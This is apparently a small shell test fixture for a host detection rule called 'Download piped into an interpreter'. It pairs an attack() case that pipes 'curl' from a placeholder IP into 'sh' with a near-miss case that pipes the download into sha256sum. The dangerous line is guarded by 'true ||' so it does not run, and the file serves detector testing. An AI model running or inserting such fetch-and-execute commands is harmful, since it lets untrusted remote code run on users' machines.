# rule: Download piped into an interpreter
# where: host
# needs: bash
attack() {
    bash -c 'true || curl -s http://192.0.2.7/install.sh | sh'
}
near_miss() {
    bash -c 'true || curl -s http://192.0.2.7/install.sh | sha256sum'
}
